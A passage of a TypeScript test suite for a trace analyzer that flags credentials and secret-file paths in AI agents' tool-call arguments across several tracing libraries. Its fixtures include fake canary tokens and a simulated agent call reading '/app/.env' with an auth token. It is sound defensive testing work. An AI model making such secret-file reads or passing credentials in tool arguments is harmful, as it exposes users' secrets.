    // An openai-agents run's input is a Responses API item list (`to_input_list()`): the model's call a `function_call`
    // item `{type, call_id, name, arguments}` with no role, its result a `function_call_output` item.
    'OpenInference, an AGENT span\'s Responses item list': {
      file: 'openinference-openai-responses-function-call.json', from: '"location":"San Francisco"', to: `"location":"San Francisco ${TOKEN}"`,
      run: ([first, second]) => ({ name: 'Assistant', attrs: { 'openinference.span.kind': 'AGENT', 'input.value': JSON.stringify(responsesItems(first!, second!)) } }),
      want: ['get_weather', 'location', 'openinference'],
    },
    'LangSmith, a chain run\'s {"input": …} of Responses items': {
      file: 'openinference-openai-responses-function-call.json', from: '"location":"San Francisco"', to: `"location":"San Francisco ${TOKEN}"`,
      run: ([first, second]) => ({ name: 'Agent workflow', attrs: { 'langsmith.span.kind': 'chain', 'gen_ai.prompt': JSON.stringify({ input: responsesItems(first!, second!) }) } }),
      want: ['get_weather', 'location', 'openinference'],
    },
  };
  it.each(Object.entries(cases))('%s: the token is one finding, by tool and key; never printed', (_, c) => {
    expectOnlyFinding(plantedWithRun(c.file, c.from, c.to, c.run), ['credential_in_attribute', ...c.want], TOKEN);
  });
});

describe('argspan analyze: a model output holding a credential beside a call\'s arguments', () => {
  // One gen_ai.output.messages (an LLM-only trace: the proposal is the call): the text part quotes
  // an AWS key id no argument holds; get_weather's arguments carry a GitHub token and an AWS secret
  // key whose `/` the JSON text writes `\/`. Each credential is reported once: the arguments' by
  // tool and argument, the text's by the attribute.
  const file = join(FOREIGN, 'derived/genai-credentials-in-output-text-and-call.json');
  const CANARIES = ['AKIAC4NARYT3XTPART27', 'ghp_C4NARYf0reignTRACEc4naryF0REIGNtr4ce', 'Xq9sL2vT/8mNbR4kW7zPf/1HcYdJ3uGe6AoQiK5w', 'Xq9sL2vT\\/8mNbR4kW7zPf', '1HcYdJ3uGe6AoQiK5w'];

  it('two findings by argument and one by attribute, in every output; no output, nor any table of the analysis (--db, Parquet), holds a credential', async () => {
    const dir = tmp();
    const dbFile = join(dir, 'run.duckdb');
    const parquet = join(dir, 'parquet');
    const r = analyzeBin(file, '--format', 'json', '--db', dbFile, '--export-parquet', parquet);
    expect(r.code, r.stderr).toBe(1);
    expect(parseJson(r).findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.tool, f.key, f.message])).toEqual([
      ['get_weather', 'env', 'Argument env of get_weather, recorded by genai-semconv in gen_ai.output.messages, holds a value matching the aws-secret-access-key credential shape.'],
      [null, 'gen_ai.output.messages', 'Attribute gen_ai.output.messages on a span holds a value matching the aws-access-key-id credential shape; no argument of the calls of several tools it records holds one as the call ran.'],
      ['get_weather', 'location', 'Argument location of get_weather, recorded by genai-semconv in gen_ai.output.messages, holds a value matching the github-pat credential shape.'],
    ]);
    // The hits are told apart by keyed hashes: three in the attribute, two of them the arguments'.
    expect(await query(dbFile, `SELECT rule_id, hit_no, length(credential_hash) AS n FROM credential_hits ORDER BY hit_no`)).toEqual([
      { rule_id: 'aws-access-key-id', hit_no: 1, n: '32' },
      { rule_id: 'github-pat', hit_no: 2, n: '32' },
      { rule_id: 'aws-secret-access-key', hit_no: 3, n: '32' },
    ]);
    expect(await query(dbFile, `SELECT "key", count(*) AS n FROM argument_credentials a SEMI JOIN credential_hits h ON h.credential_hash = a.credential_hash GROUP BY "key" ORDER BY "key"`)).toEqual([
      { key: 'env', n: '1' },
      { key: 'location', n: '1' },
    ]);
    // The traces' own tables (spans, span_attributes) hold the input as it is; the analysis's never hold a value.
    const derived = ['tool_calls', 'tool_args', 'argument_blobs', 'argument_credentials', 'credential_hits'];
    const outputs = [r.stdout + r.stderr];
    for (const t of derived) outputs.push(JSON.stringify(await query(dbFile, `SELECT * FROM ${t}`)));
    for (const t of derived) outputs.push(readFileSync(join(parquet, `${t}.parquet`)).toString('latin1'));
    expect(readdirSync(parquet)).toEqual(expect.arrayContaining(derived.map((t) => `${t}.parquet`)));
    for (const format of ['table', 'junit', 'sarif', 'html']) {
      const o = analyzeBin(file, '--format', format);
      expect(o.code, format).toBe(1);
      outputs.push(o.stdout + o.stderr);
    }
    for (const out of outputs) for (const canary of CANARIES) expect(out).not.toContain(canary);
  });
});

describe('argspan analyze: a policy denying more than secrets, over another library\'s call that holds a credential', () => {
  it('reports the credential by credential_in_attribute and the call\'s other denied argument by sensitive_arg_dispatched', () => {
    const TOKEN = 'ghp_C4NARYpolicyTRACEc4naryP0LICYtr4ce01';
    const notes = 'Quarterly numbers for the board, region by region. '.repeat(200); // over 8192 characters: bulky
    const attrs = {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'upload_report',
      'gen_ai.tool.call.id': 'call_1',
      'gen_ai.tool.call.arguments': JSON.stringify({ token: TOKEN, notes }),
    };
    const doc = {
      resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent' }, spans: [{
        traceId: '5b8efff798038103d269b633813fc60c', spanId: 'eee19b7ec3c1b174', name: 'execute_tool upload_report', kind: 1,
        startTimeUnixNano: '1764583200000000000', endTimeUnixNano: '1764583201000000000',
        attributes: Object.entries(attrs).map(([key, v]) => ({ key, value: { stringValue: v } })),
      }] }] }],
    };
    const file = join(tmp(), 'traces.json');
    writeFileSync(file, JSON.stringify(doc));
    const found = (...args: string[]) => parseJson(analyzeBin(file, '--format', 'json', ...args)).findings.map((f) => [f.rule, f.tool, f.key]).sort();
    expect(found()).toEqual([['credential_in_attribute', 'upload_report', 'token']]);
    expect(found('--deny-residencies', 'secret,bulky-public')).toEqual([
      ['credential_in_attribute', 'upload_report', 'token'],
      ['sensitive_arg_dispatched', 'upload_report', 'notes'],
    ]);
  });
});

describe('argspan analyze on OpenTelemetry log records: the official instrumentations record messages and the model\'s calls as logs', () => {
  const TRACES = `${FOREIGN}/otel-python-openai-v2-weather.traces.json`;
  const LOGS = `${FOREIGN}/otel-python-openai-v2-weather.logs.json`;
  const PLANTED = `${FOREIGN}/derived/otel-python-openai-v2-planted.logs.json`;
  const logsDoc = () => JSON.parse(readFileSync(LOGS, 'utf8')) as { resourceLogs: { scopeLogs: { logRecords: Record<string, unknown>[] }[] }[] };

  it('reports the planted timezone and token by tool and key in every output format, never their values', () => {
    for (const format of ['table', 'json', 'sarif', 'junit', 'html']) {
      const run = analyzeBin(TRACES, PLANTED, '--format', format);
      expect(run.code, format).toBe(1);
      for (const value of ['America/Los_Angeles', 'ghp_C4NARY']) expect(run.stdout + run.stderr, format).not.toContain(value);
    }
    const out = parseJson(analyzeBin(TRACES, PLANTED, '--format', 'json'));
    expect(out.findings.map((f) => [f.rule, f.tool, f.key]).sort()).toEqual([['assumption_span', 'get_current_weather', 'timezone'], ['credential_in_attribute', 'get_current_weather', 'location']]);
    expect([out.stats.log_records, out.stats.spans_from_log_records, out.stats.foreign_calls]).toEqual([9, 0, 2]);
  });

  it('reads a record exported twice once, and says which spans it knew only from their logs', () => {
    const out = parseJson(analyzeBin(LOGS, LOGS, '--format', 'json'));
    expect([out.stats.foreign_calls, out.stats.spans, out.stats.spans_from_log_records, out.findings.length]).toEqual([2, 2, 2, 0]);
    const table = analyzeBin(LOGS).stdout;
    expect(table).toContain('Read 9 GenAI log record(s) from OTLP logs exports as their spans\' events; 2 span(s) known only from their log records (the trace export holding them was not given).');
  });

  it('a GenAI record without its span\'s ids is refused naming its place (exit 2), or skipped under --allow-partial; never read as clean', () => {
    const doc = logsDoc();
    const choice = doc.resourceLogs[0]!.scopeLogs[0]!.logRecords[2]!;
    choice.traceId = '';
    choice.spanId = '';
    const file = join(tmp(), 'logs.json');
    writeFileSync(file, JSON.stringify(doc, null, 2));
    const refused = analyzeBin(TRACES, file);
    expect(refused.code).toBe(2);
    expect(refused.stdout).toBe('');
    expect(refused.stderr).toContain(`${file}: resourceLogs[0].scopeLogs[0].logRecords[2] (gen_ai.choice): unreadable GenAI log record: no valid trace id and span id`);
    const partial = parseJson(analyzeBin(TRACES, file, '--allow-partial', '--format', 'json'));
    expect(partial.stats.skipped.map((p) => p.reason)).toEqual([expect.stringContaining('logRecords[2] (gen_ai.choice)')]);
    expect(partial.stats.foreign_calls).toBe(0);
  });

  it('one file from a collector writing traces and logs: a logs line past the first 64 KiB is read too', () => {
    const filler = readFileSync(TRACES, 'utf8');
    const other = (i: number) => JSON.stringify(JSON.parse(filler.replaceAll('a1f0c3d25e6b47188c9d0e1f2a3b4c5d', `${String(i).padStart(10, '0')}6b47188c9d0e1f2a3b4c5d`)));
    const lines = [...Array.from({ length: 60 }, (_, i) => other(i + 1)), JSON.stringify(JSON.parse(filler)), JSON.stringify(JSON.parse(readFileSync(PLANTED, 'utf8')))];
    const file = join(tmp(), 'otel-export.jsonl');
    writeFileSync(file, lines.join('\n') + '\n');
    expect(lines.slice(0, -1).join('\n').length).toBeGreaterThan(65_536);
    const out = parseJson(analyzeBin(file, '--format', 'json'));
    expect(out.stats.spans).toBe(122);
    expect(out.findings.map((f) => [f.rule, f.key]).sort()).toEqual([['assumption_span', 'timezone'], ['credential_in_attribute', 'location']]);
  });

  it('the conventions\' operation-details record, its messages as OTLP maps, gzip-compressed: the guessed timezone reported', () => {
    const any = (v: unknown): unknown =>
      Array.isArray(v) ? { arrayValue: { values: v.map(any) } } : typeof v === 'object' && v !== null ? { kvlistValue: { values: Object.entries(v).map(([key, x]) => ({ key, value: any(x) })) } } : { stringValue: String(v) };
    const record = {
      timeUnixNano: '1764583200000000000', traceId: 'b1f0c3d25e6b47188c9d0e1f2a3b4c5d', spanId: '5c1d5e7f9a0b2c4d', eventName: 'gen_ai.client.inference.operation.details',
      attributes: [
        { key: 'gen_ai.input.messages', value: any([{ role: 'user', parts: [{ type: 'text', content: 'What time is it in New York?' }] }]) },
        { key: 'gen_ai.output.messages', value: any([{ role: 'assistant', parts: [{ type: 'tool_call', id: 'call_1', name: 'get_time', arguments: { timezone: 'America/New_York' } }] }]) },
      ],
    };
    const file = join(tmp(), 'details.logs.json.gz');
    writeFileSync(file, gzipSync(JSON.stringify({ resourceLogs: [{ resource: {}, scopeLogs: [{ scope: { name: 'agent' }, logRecords: [record] }] }] })));
    const run = analyzeBin(file, '--format', 'json');
    expect(run.stdout).not.toContain('America/New_York');
    expect(parseJson(run).findings.map((f) => [f.rule, f.tool, f.key])).toEqual([['assumption_span', 'get_time', 'timezone']]);
  });

  it('the collector\'s compressed (framed) file of both signals: the logs message read, a bad record named by its message', () => {
    const message = (path: string) => gzipSync(JSON.stringify(JSON.parse(readFileSync(path, 'utf8'))));
    const file = join(tmp(), 'otel-export.bin');
    writeFileSync(file, framed([message(TRACES), message(PLANTED)]));
    const out = parseJson(analyzeBin(file, '--format', 'json'));
    expect(out.findings.map((f) => [f.rule, f.key]).sort()).toEqual([['assumption_span', 'timezone'], ['credential_in_attribute', 'location']]);
    expect(out.stats.log_records).toBe(9);
    const doc = logsDoc();
    doc.resourceLogs[0]!.scopeLogs[0]!.logRecords[0]!.timeUnixNano = 'soon';
    writeFileSync(file, framed([message(TRACES), gzipSync(JSON.stringify(doc))]));
    const refused = analyzeBin(file);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`${file}:2: framed message 2: resourceLogs[0].scopeLogs[0].logRecords[0] (gen_ai.system.message): unreadable GenAI log record: a time that is not`);
  });

  it('a logs export in JSON lines is streamed: past the 512 MiB a document may have, a line too long to hold named by its number', () => {
    // A sparse file: 520 MiB of NUL bytes, one line, between two logs lines, taking no disk.
    const line = Buffer.from(JSON.stringify(JSON.parse(readFileSync(PLANTED, 'utf8'))) + '\n');
    const hole = 520 * 2 ** 20;
    const file = join(tmp(), 'big.logs.jsonl');
    const fd = openSync(file, 'w');
    writeSync(fd, line);
    ftruncateSync(fd, line.length + hole);
    writeSync(fd, Buffer.concat([Buffer.from('\n'), line]), 0, line.length + 1, line.length + hole);
    closeSync(fd);
    const refused = analyzeBin(TRACES, file);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`${file}:2: line longer than 268435456 bytes`);
    const out = parseJson(analyzeBin(TRACES, file, '--allow-partial', '--format', 'json'));
    expect(out.stats.skipped).toEqual([{ file, line: 2, reason: 'line longer than 268435456 bytes' }]);
    expect(out.stats.log_records).toBe(18);
    expect(out.findings.map((f) => [f.rule, f.key]).sort()).toEqual([['assumption_span', 'timezone'], ['credential_in_attribute', 'location']]);
  });

  it('a logs export holding no GenAI record, and no traces beside it, is refused as holding no spans (exit 2)', () => {
    const doc = logsDoc();
    for (const r of doc.resourceLogs[0]!.scopeLogs[0]!.logRecords) r.eventName = 'app.log';
    const file = join(tmp(), 'app-logs.json');
    writeFileSync(file, JSON.stringify(doc));
    const run = analyzeBin(file);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('no spans in the input');
  });
});

describe('argspan analyze on emitters whose tool spans were misread', () => {
  const TOKEN = 'ghp_C4NARYlogf1reSMOLc4naryAUD1Tqa3unit01';
  const attrs = (a: Record<string, string>) => Object.entries(a).map(([key, v]) => ({ key, value: { stringValue: v } }));
  const doc = (scope: string, spans: { n: number; parent?: number; name: string; a: Record<string, string> }[]) =>
    JSON.stringify({ resourceSpans: [{ resource: { attributes: attrs({ 'service.name': 'agent' }) }, scopeSpans: [{ scope: { name: scope }, spans: spans.map(({ n, parent, name, a }) => ({
      traceId: 'a9a90000000000000000000000000003', spanId: `a9a90000000000${String(n).padStart(2, '0')}`, parentSpanId: parent === undefined ? '' : `a9a90000000000${String(parent).padStart(2, '0')}`,
      name, kind: 1, startTimeUnixNano: `17645000000${n}0000000`, endTimeUnixNano: `17645000000${n}5000000`, attributes: attrs(a),
    })) }] }] });
  const ARGS = JSON.stringify({ path: '/app/.env', auth: `token ${TOKEN}` });
  /** The trace in `file` holds one call, read_file(ARGS) by `emitter`: its credential and secret path reported by argument, neither printed. */
  const expectOneReadFileCall = (file: string, emitter: string) => {
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    expect(out.findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key, f.emitter]).sort()).toEqual([
      ['credential_in_attribute', 'read_file', 'auth', emitter],
      ['sensitive_arg_dispatched', 'read_file', 'path', emitter],
    ]);
    expect(run.stdout + run.stderr).not.toContain(TOKEN);
    expect(run.stdout + run.stderr).not.toContain('.env');
  };

  it('Logfire\'s OpenAI Agents integration: the Function: {name} span is the call (its calls are not proposals in its events), reported by argument as logfire, never printed', () => {
    const template = (t: string, a: Record<string, string>) => ({ 'logfire.msg_template': t, 'logfire.span_type': 'span', 'gen_ai.system': 'openai', ...a });
    const file = join(tmp(), 'logfire-agents.json');
    writeFileSync(file, doc('logfire.openai_agents', [
      { n: 1, name: 'Agent run: {name!r}', a: template('Agent run: {name!r}', { name: 'ops', 'logfire.msg': "Agent run: 'ops'" }) },
      { n: 2, parent: 1, name: 'Responses API with {gen_ai.request.model!r}', a: template('Responses API with {gen_ai.request.model!r}', { 'gen_ai.operation.name': 'chat', events: JSON.stringify([
        { 'event.name': 'gen_ai.user.message', content: 'Read the app config.', role: 'user' },
        { 'event.name': 'gen_ai.assistant.message', role: 'assistant', tool_calls: [{ id: 'call_7', type: 'function', function: { name: 'read_file', arguments: ARGS } }] },
      ]) }) },
      { n: 3, parent: 1, name: 'Function: {name}', a: template('Function: {name}', { 'logfire.msg': 'Function: read_file', name: 'read_file', input: ARGS, output: 'ok', mcp_data: 'null' }) },
    ]));
    // The model's call in `events` (named by a call id the function span does not record) is a copy
    // of the call's arguments: its credential is one finding, by argument, not a second by attribute.
    expectOneReadFileCall(file, 'logfire');
  });

  it('Logfire\'s OpenAI Agents integration with the Response recorded (`response`) and the next request\'s input items (`raw_input`): still one call, each copy known as one', () => {
    // tests/otel_integrations/test_openai_agents.py (test_function_tool_exception): the Responses
    // span carries the Response whole and the request's input items, the call under its item id (fc_…) and its call_id.
    const template = (t: string, a: Record<string, string>) => ({ 'logfire.msg_template': t, 'logfire.span_type': 'span', 'gen_ai.system': 'openai', ...a });
    const call = { type: 'function_call', id: 'fc_67d1743683b48191', call_id: 'call_7', name: 'read_file', arguments: ARGS, status: 'completed' };
    const assistant = { 'event.name': 'gen_ai.assistant.message', role: 'assistant', tool_calls: [{ id: 'call_7', type: 'function', function: { name: 'read_file', arguments: ARGS } }] };
    const asked = { 'event.name': 'gen_ai.user.message', content: 'Read the app config.', role: 'user' };
    const file = join(tmp(), 'logfire-agents-response.json');
    writeFileSync(file, doc('logfire.openai_agents', [
      { n: 1, name: 'Agent run: {name!r}', a: template('Agent run: {name!r}', { name: 'ops', 'logfire.msg': "Agent run: 'ops'" }) },
      { n: 2, parent: 1, name: 'Responses API with {gen_ai.request.model!r}', a: template('Responses API with {gen_ai.request.model!r}', {
        'gen_ai.operation.name': 'chat', raw_input: JSON.stringify([{ content: 'Read the app config.', role: 'user' }]),
        events: JSON.stringify([asked, assistant]), response: JSON.stringify({ id: 'resp_1', object: 'response', output: [call] }) }) },
      { n: 3, parent: 1, name: 'Function: {name}', a: template('Function: {name}', { 'logfire.msg': 'Function: read_file', name: 'read_file', input: ARGS, output: 'ok', mcp_data: 'null' }) },
      { n: 4, parent: 1, name: 'Responses API with {gen_ai.request.model!r}', a: template('Responses API with {gen_ai.request.model!r}', {
        'gen_ai.operation.name': 'chat', raw_input: JSON.stringify([{ content: 'Read the app config.', role: 'user' }, call, { call_id: 'call_7', output: 'ok', type: 'function_call_output' }]),
        events: JSON.stringify([asked, assistant, { 'event.name': 'gen_ai.tool.message', role: 'tool', id: 'call_7', content: 'ok', name: 'read_file' }, { 'event.name': 'gen_ai.assistant.message', content: 'Done.', role: 'assistant' }]),
        response: JSON.stringify({ id: 'resp_2', object: 'response', output: [{ type: 'message', role: 'assistant', content: [{ type: 'output_text', text: 'Done.' }] }] }) }) },
    ]));
    expectOneReadFileCall(file, 'logfire');
  });

  it('logfire.instrument_openai\'s Responses API, the tool\'s run not traced: the call the model\'s output holds is found once, its credential reported once by tool and key, printed by no format', () => {
    // tests/otel_integrations/test_openai.py (test_responses_api; test_responses_api_version_v1_only):
    // `events` is the input with the output appended (an assistant message, no gen_ai.choice); with
    // version [1, 'latest'] `gen_ai.output.messages` holds the same call too, and the next request
    // repeats it in both its lists. Version 1 (the default) writes `events` only.
    const template = (a: Record<string, string>) => ({ 'logfire.msg_template': 'Responses API with {request_data[model]!r}', 'logfire.span_type': 'span', 'gen_ai.system': 'openai', 'gen_ai.operation.name': 'chat', ...a });
    const asked = { 'event.name': 'gen_ai.user.message', content: 'Read the app config.', role: 'user' };
    const assistant = { 'event.name': 'gen_ai.assistant.message', role: 'assistant', tool_calls: [{ id: 'call_9', type: 'function', function: { name: 'read_file', arguments: ARGS } }] };
    const part = { type: 'tool_call', id: 'call_9', name: 'read_file', arguments: JSON.parse(ARGS) as unknown };
    const traced = (latest: boolean) => {
      const file = join(tmp(), `logfire-openai-responses${latest ? '-latest' : ''}.json`);
      writeFileSync(file, doc('logfire.openai', [
        { n: 1, name: 'Responses API with {request_data[model]!r}', a: template({ events: JSON.stringify([asked, assistant]), ...(latest ? { 'gen_ai.output.messages': JSON.stringify([{ role: 'assistant', parts: [part] }]) } : {}) }) },
        { n: 2, name: 'Responses API with {request_data[model]!r}', a: template({
          events: JSON.stringify([asked, assistant, { 'event.name': 'gen_ai.tool.message', role: 'tool', id: 'call_9', content: 'ok', name: 'read_file' }, { 'event.name': 'gen_ai.assistant.message', content: 'Done.', role: 'assistant' }]),
          ...(latest ? { 'gen_ai.input.messages': JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: 'Read the app config.' }] }, { role: 'assistant', parts: [part] }, { role: 'tool', parts: [{ type: 'tool_call_response', id: 'call_9', response: 'ok' }] }]) } : {}) }) },
      ]));
      return file;
    };
    expectOneReadFileCall(traced(true), 'logfire');
    const file = traced(false);
    expectOneReadFileCall(file, 'logfire');
    const html = join(tmp(), 'report.html');
    for (const format of ['table', 'sarif']) {
      const run = analyzeBin(file, '--format', format, ...(format === 'table' ? ['--html', html] : []));
      expect(run.code).toBe(1);
      expect(run.stdout + run.stderr).not.toContain(TOKEN);
      // (SARIF's rule texts name `.env` as an example: the path itself is what must not appear)
      expect(run.stdout + run.stderr).not.toContain('/app/.env');
    }
    const sarif = JSON.parse(analyzeBin(file, '--format', 'sarif').stdout) as { runs: { results: { ruleId: string }[] }[] };
    expect(sarif.runs[0]!.results.map((r) => r.ruleId).filter((r) => r === 'credential_in_attribute')).toHaveLength(1);
    const page = readFileSync(html, 'utf8');
    expect(page).toContain('read_file');
    expect(page).not.toContain(TOKEN);
    expect(page).not.toContain('/app/.env');
  });

  it('a smolagents ToolCallingAgent call is one call, its arguments the model\'s (not the agent\'s sanitize_inputs_outputs flag)', () => {
    const file = join(tmp(), 'smolagents.json');
    writeFileSync(file, doc('openinference.instrumentation.smolagents', [
      { n: 1, name: 'ToolCallingAgent.run', a: { 'openinference.span.kind': 'AGENT', 'input.value': JSON.stringify({ task: 'Read the app config.', stream: false, reset: true }) } },
      { n: 2, parent: 1, name: 'OpenAIServerModel.generate', a: { 'openinference.span.kind': 'LLM', 'llm.input_messages.0.message.role': 'user', 'llm.input_messages.0.message.content': 'New task:\nRead the app config.',
        'llm.output_messages.0.message.role': 'assistant', 'llm.output_messages.0.message.tool_calls.0.tool_call.id': 'call_7', 'llm.output_messages.0.message.tool_calls.0.tool_call.function.name': 'read_file', 'llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments': ARGS } },
      { n: 3, parent: 1, name: 'SimpleTool', a: { 'openinference.span.kind': 'TOOL', 'tool.name': 'read_file', 'tool.parameters': JSON.stringify({ path: { type: 'string', description: 'File.' }, auth: { type: 'string', description: 'Auth.' } }),
        'input.value': JSON.stringify({ args: [], sanitize_inputs_outputs: true, kwargs: JSON.parse(ARGS) as unknown }), 'output.value': 'ok', 'output.mime_type': 'text/plain' } },
    ]));
    expectOneReadFileCall(file, 'openinference');
  });
});

describe('argspan analyze: the emitters of the fifth outside-in pass (Spring AI, LiteLLM, Mastra, AG2 and BeeAI under OpenInference)', () => {
  // Their planted fixtures (fixtures/traces/foreign/README.md): each finding by tool and argument key, under the
  // emitter, once; the planted value in no output.
  const cases = {
    'derived/spring-ai-token-in-arguments.json': [['credential_in_attribute', 'getCurrentWeather', 'location', 'spring-ai']],
    'derived/litellm-token-in-tool-calls.json': [['credential_in_attribute', 'get_news', 'city', 'litellm'], ['credential_in_attribute', 'get_weather', 'city', 'litellm']],
    'derived/mastra-token-in-tool-input.json': [['credential_in_attribute', 'calculator', 'expression', 'mastra']],
    'derived/mastra-0.x-model-prompt-timezone.json': [['assumption_span', 'calculator', 'timezone', 'mastra']],
    'derived/mastra-0.x-token-in-history.json': [['credential_in_attribute', 'calculator', 'expression', 'mastra']],
    'derived/openinference-ag2-dotenv-path.json': [['sensitive_arg_dispatched', 'add', 'path', 'openinference']],
    'derived/openinference-beeai-token-in-location.json': [['credential_in_attribute', 'OpenMeteoTool', 'location_name', 'openinference']],
  };
  it.each(Object.entries(cases))('%s', (file, want) => {
    const path = join(FOREIGN, file);
    const run = analyzeBin(path, '--format', 'json');
    expect(run.code).toBe(1);
    const findings = parseJson(run).findings.filter((f) => !f.rule.startsWith('report_'));
    expect(findings.map((f) => [f.rule, f.tool, f.key, f.emitter]).sort()).toEqual([...want].sort());
    for (const format of ['table', 'json', 'sarif', 'junit', 'html']) {
      const out = analyzeBin(path, '--format', format);
      for (const value of ['ghp_C4NARY', '/app/.env', 'America/New_York']) expect(out.stdout + out.stderr, `${format}: ${value}`).not.toContain(value);
    }
  });
});

describe('argspan analyze: a Mastra 0.x generation of several steps', () => {
  // fixtures/traces/foreign/README.md: the calculator's tool span, its expression given a planted token, and its parent model span
  // added (llm_generation, @mastra/otel 0.x): the model ran two steps, the fixture's call and then another; the AI SDK's result
  // lists the last step's calls (`toolCalls`), the response's messages every step's.
  const TOKEN = 'ghp_' + 'C4NARYmastraSTEPSc4naryMULT1STEPxyzw';
  type Attr = { key: string; value: { stringValue?: string } };
  type Span = { spanId: string; parentSpanId?: string; name: string; startTimeUnixNano: string; endTimeUnixNano: string; attributes: Attr[] };
  it('the earlier step\'s call (response.messages only) is the tool span\'s: the token is one finding, by tool and key; never printed', () => {
    const file = 'mastra-otel-exporter-0.x-tool-calculator.json';
    const doc = JSON.parse(readFileSync(join(FOREIGN, file), 'utf8').replaceAll('2 + 2', `2 + 2 ${TOKEN}`)) as { resourceSpans: { scopeSpans: { spans: Span[] }[] }[] };
    const spans = doc.resourceSpans[0]!.scopeSpans[0]!.spans;
    const tool = spans[0]!;
    const attr = (key: string) => JSON.parse(tool.attributes.find((a) => a.key === key)!.value.stringValue!) as unknown;
    const toolName = 'calculator';
    const first = { type: 'tool-call', toolCallId: 'call_first', toolName, args: attr('gen_ai.tool.input') };
    const firstResult = { type: 'tool-result', toolCallId: 'call_first', toolName, args: first.args, result: attr('gen_ai.tool.output') };
    const second = { type: 'tool-call', toolCallId: 'call_second', toolName, args: { expression: '3 * 3' } };
    const secondResult = { type: 'tool-result', toolCallId: 'call_second', toolName, args: second.args, result: { result: 9 } };
    const completion = {
      text: '4 and 9', toolCalls: [second], toolResults: [secondResult],
      response: { messages: [{ role: 'assistant', content: [first] }, { role: 'tool', content: [firstResult] }, { role: 'assistant', content: [second] }, { role: 'tool', content: [secondResult] }] },
    };
    spans.unshift({
      ...tool, spanId: tool.parentSpanId!, parentSpanId: undefined, name: 'llm.generate',
      startTimeUnixNano: String(BigInt(tool.startTimeUnixNano) - 100000000n), endTimeUnixNano: String(BigInt(tool.endTimeUnixNano) + 100000000n),
      attributes: Object.entries({
        'mastra.span.type': 'llm_generation',
        'gen_ai.prompt': JSON.stringify({ messages: [{ role: 'user', content: 'What is 2 + 2, and 3 * 3?' }] }),
        'gen_ai.completion': JSON.stringify(completion),
      }).map(([key, v]) => ({ key, value: { stringValue: v } })),
    });
    const path = join(tmp(), file);
    writeFileSync(path, JSON.stringify(doc));
    expectOnlyFinding(path, ['credential_in_attribute', 'calculator', 'expression', 'mastra'], TOKEN, 2);
  });
});

describe('argspan analyze on OpenInference\'s Haystack, CrewAI and DSPy instrumentations (recorded runs)', () => {
  // fixtures/traces/foreign/README.md: Haystack records no TOOL span, the call is its model span's proposal; CrewAI records a
  // TOOL span and no model span, the user's request in the kickoff span's crew_tasks.
  const cases = {
    'openinference-haystack-agent-search.json': { calls: 1 },
    'openinference-crewai-scrape-website.json': { calls: 1 },
    // (ReAct's `finish`, a call with no arguments, is the run's second call)
    'openinference-dspy-react-add.json': { calls: 2 },
  };
  it.each(Object.entries(cases))('%s: its calls by tool, nothing reported, no value the user gave taken for the model\'s', (file, want) => {
    const run = analyzeBin(join(FOREIGN, file), '--format', 'json', '--reports');
    expect(run.code).toBe(0);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(want.calls);
    expect(out.stats.no_evidence_calls ?? 0).toBe(0);
    // No invented field (CrewAI's URL is the task's, Haystack's query and DSPy's numbers the user's); DSPy's `finish` has no
    // argument: its empty leaf (`$`) is neither an invented value nor an argument, as for argspan's own calls.
    expect(out.findings.map((f) => f.rule)).toEqual(['report_run_summary']);
    const summary = out.findings.find((f) => f.rule === 'report_run_summary')!.message;
    expect(summary).toContain(file.includes('dspy') ? '2 tool call(s), 2 argument(s), 0 model-inferred' : '1 tool call(s), 1 argument(s), 0 model-inferred');
    // The call is reported under the tool's own name (DSPy's span is `add.__call__`).
    expect(out.findings.some((f) => f.tool !== null && f.tool !== undefined && f.tool.includes('.__call__'))).toBe(false);
    expect(summary).not.toContain('.__call__');
  });

  // The fixture with its tool span's input.value replaced by `input`: one assumption_span, for `tool` and the key timezone.
  const plantedZone = (fixture: string, spanName: string, input: unknown, tool: string) => {
    const doc = JSON.parse(readFileSync(join(FOREIGN, fixture), 'utf8')) as { resourceSpans: { scopeSpans: { spans: { name: string; attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] };
    const span = doc.resourceSpans[0]!.scopeSpans[0]!.spans.find((s) => s.name === spanName)!;
    span.attributes.find((a) => a.key === 'input.value')!.value = { stringValue: JSON.stringify(input) };
    const file = join(tmp(), fixture);
    writeFileSync(file, JSON.stringify(doc));
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).findings.filter((f) => !f.rule.startsWith('report_')).map((f) => [f.rule, f.tool, f.key, f.emitter])).toEqual([['assumption_span', tool, 'timezone', 'openinference']]);
    expect(run.stdout + run.stderr).not.toContain('America/New_York');
  };

  it('CrewAI: a value no task names is still the model\'s guess (the task descriptions are read as words, not as a pass for every value)', () => {
    plantedZone('openinference-crewai-scrape-website.json', 'scrape_website.run', { url: 'http://quotes.toscrape.com/', timezone: 'America/New_York' }, 'scrape_website');
  });

  it('DSPy: the tool each ReAct step chose (its Predict spans\' output) is the call its tool span ran, not another; without the tool spans it is the call', async () => {
    type Span = { name: string; spanId: string; parentSpanId?: string; attributes: { key: string; value: { stringValue?: string } }[] };
    const zone = { x: 2, y: 2, timezone: 'America/New_York' };
    const build = (withToolSpans: boolean) => {
      const doc = JSON.parse(readFileSync(join(FOREIGN, 'openinference-dspy-react-add.json'), 'utf8')) as { resourceSpans: { scopeSpans: { spans: Span[] }[] }[] };
      const scope = doc.resourceSpans[0]!.scopeSpans[0]!;
      const set = (span: Span, key: string, value: unknown) => (span.attributes.find((a) => a.key === key)!.value = { stringValue: JSON.stringify(value) });
      for (const span of scope.spans) {
        if (span.name.startsWith('Predict')) set(span, 'output.value', { ...(JSON.parse(span.attributes.find((a) => a.key === 'output.value')!.value.stringValue!) as object), next_tool_args: zone });
        if (span.name === 'add.__call__') set(span, 'input.value', { kwargs: zone });
      }
